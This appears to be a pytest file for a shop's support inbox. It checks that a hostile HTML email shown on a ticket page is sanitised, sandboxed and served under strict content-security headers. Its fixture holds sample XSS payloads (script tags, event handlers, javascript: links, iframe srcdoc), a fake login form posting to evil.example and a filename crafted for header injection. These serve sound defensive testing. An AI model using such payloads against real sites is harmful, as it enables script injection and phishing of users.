"""Hostile mail on the ticket page: nothing runs, nothing loads, nothing poses as ours."""

from __future__ import annotations

from email.message import EmailMessage
from functools import cache

import pytest
from flask.testing import FlaskClient
from sqlalchemy import select

from shopapp.inbox.models import Attachment, TicketMessage
from shopapp.stores.models import StoreSettings
from tests import cast
from tests.conftest import SignIn
from tests.inbox.desk import ADDRESS, Desk, newest_ticket
from tests.inbox.reading import INBOX, one, soup, url

PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360"
    "00000000050001a5f645400000000049454e44ae426082"
)
HOSTILE = """
<html><head><style>body { display: none }</style><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example"></head>
<body onload="alert(1)">
<p style="position:fixed" id="composer" class="btn" onclick="alert(2)">Buy now</p>
<script>alert(3)</script><img src="x" onerror="alert(4)">
<svg onload="alert(5)"><use href="#a"/></svg>
<form action="https://evil.example" method="post">
<input name="csrf_token"><button>Log in</button></form>
<a href="javascript:alert(6)">one</a> <a href="https://shop.example/track" hx-get="/x">two</a>
<img name="cookie" id="main" src="https://cdn.example/pixel.png" alt="Banner">
<img src="http://plain.example/p.png"><img src="cid:jar@x" alt="my jar">
<iframe srcdoc="<script>alert(7)</script>"></iframe><math><mtext><style>x</style></mtext></math>
</body></html>
"""
POLICY = "default-src 'none'; script-src 'self'; style-src 'self'; img-src {}; font-src 'self';"


@cache
def hostile() -> bytes:
    """A mail that tries everything, with a picture, a page and a drawing attached."""
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = "Eve <eve@nowhere.example>", ADDRESS, "<b>Hi</b>"
    mail["Message-ID"] = "<hostile@nowhere.example>"
    mail.set_content("Hi")
    mail.add_alternative(HOSTILE, subtype="html")
    html = mail.get_payload()[1]
    html.add_related(PIXEL, "image", "png", cid="<jar@x>", filename="jar.png")
    page = b"<script>alert(8)</script>"
    mail.add_attachment(page, maintype="text", subtype="html", filename='a"; x=.html')
    mail.add_attachment(b"<svg/>", maintype="image", subtype="svg+xml", filename="drawing.svg")
    return mail.as_bytes()


@pytest.fixture
def ticket(desk: Desk) -> str:
    desk.take_in(hostile())
    with desk.session() as session:
        return newest_ticket(session).id


@pytest.fixture
def message(desk: Desk, ticket: str) -> str:
    with desk.session() as session:
        return str(session.scalar(select(TicketMessage.id).filter_by(ticket_id=ticket)))


def test_nothing_in_a_mail_runs_submits_styles_or_takes_a_name(
    ben: FlaskClient, ticket: str
) -> None:
    body = one(soup(ben.get(url(ticket)).text), ".msg .body")
    assert "Buy now" in body.text
    assert not body.select(
        "script, style, svg, math, iframe, form, input, button, base, meta, link"
    )
    allowed = {"href", "rel", "target", "title", "src", "alt", "data-cid", "data-remote-image"}
    assert {name for each in body.find_all(True) for name in each.attrs} <= allowed
    assert "alert" not in str(body)
    links = [each.get("href") for each in body.select("a")]
    assert links == [None, "https://shop.example/track"]
    assert one(body, "a[href]")["rel"] == ["noopener", "noreferrer", "nofollow"]


def test_the_page_stays_ours(ben: FlaskClient, ticket: str) -> None:
    answer = ben.get(url(ticket))
    page = soup(answer.text)
    assert one(page, "#composer").name == "section"
    assert one(page, "#main").name == "main"
    assert one(page, "h1").text == "<b>Hi</b>"
    assert answer.headers["Content-Security-Policy"].startswith(POLICY.format("'self' data:"))
    assert not page.select("script:not([src]), [style], [onload], [onclick]")


def test_remote_images_wait_until_they_are_asked_for(
    ben: FlaskClient, ticket: str, message: str
) -> None:
    page = soup(ben.get(url(ticket)).text)
    assert [each["src"] for each in page.select(".body img")] == [
        f"{INBOX}/messages/{message}/pictures/jar@x"
    ]
    asking = one(page, f"#m-{message} .banner a")["href"]
    assert str(asking).startswith(f"?images={message}")
    answer = ben.get(f"{url(ticket)}?images={message}")
    shown = {str(each["src"]) for each in soup(answer.text).select(".body img")}
    assert "https://cdn.example/pixel.png" in shown
    assert answer.headers["Content-Security-Policy"].startswith(
        POLICY.format("'self' data: https:")
    )


@pytest.mark.parametrize("other", ["", "all", "nobody"])
def test_only_the_message_that_was_asked_for_shows_its_images(
    ben: FlaskClient, ticket: str, other: str
) -> None:
    text = ben.get(f"{url(ticket)}?images={other}").text
    assert "https://cdn.example" not in text


def test_a_store_may_always_load_remote_images(ben: FlaskClient, desk: Desk, ticket: str) -> None:
    with desk.session() as session:
        session.scalars(select(StoreSettings)).one().toggles = {"remote_images": True}
    answer = ben.get(url(ticket))
    assert "https://cdn.example/pixel.png" in answer.text
    assert "'self' data: https:;" in answer.headers["Content-Security-Policy"]


def test_a_picture_of_the_mail_is_served_as_nothing_but_a_picture(
    ben: FlaskClient, ticket: str, message: str
) -> None:
    answer = ben.get(f"{INBOX}/messages/{message}/pictures/jar@x", buffered=True)
    assert (answer.mimetype, answer.data) == ("image/png", PIXEL)
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert ben.get(f"{INBOX}/messages/{message}/pictures/other").status_code == 404


def test_attachments_are_downloaded_and_never_opened(
    ben: FlaskClient, desk: Desk, ticket: str
) -> None:
    chips = soup(ben.get(url(ticket)).text).select(".files a")
    with desk.session() as session:
        rows = session.scalars(select(Attachment).where(Attachment.is_inline.is_(False))).all()
        assert len(chips) == len(rows) == 2
    for chip in chips:
        answer = ben.get(str(chip["href"]), buffered=True)
        assert answer.mimetype == "application/octet-stream"
        assert answer.headers["Content-Disposition"].startswith("attachment; filename")
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert answer.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"


def test_the_original_is_kept_byte_for_byte(ben: FlaskClient, ticket: str, message: str) -> None:
    link = one(soup(ben.get(url(ticket)).text), f"#m-{message} .foot a")
    answer = ben.get(str(link["href"]))
    assert answer.data == hostile()
    assert answer.mimetype == "message/rfc822"
    assert answer.headers["Content-Disposition"].startswith("attachment")
    assert answer.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"


def test_another_stores_files_are_not_there(sign_in: SignIn, ticket: str, message: str) -> None:
    dora = sign_in(cast.DORA)
    for path in (f"messages/{message}/raw", f"messages/{message}/pictures/jar@x"):
        assert dora.get(f"/hill/inbox/{path}").status_code == 404
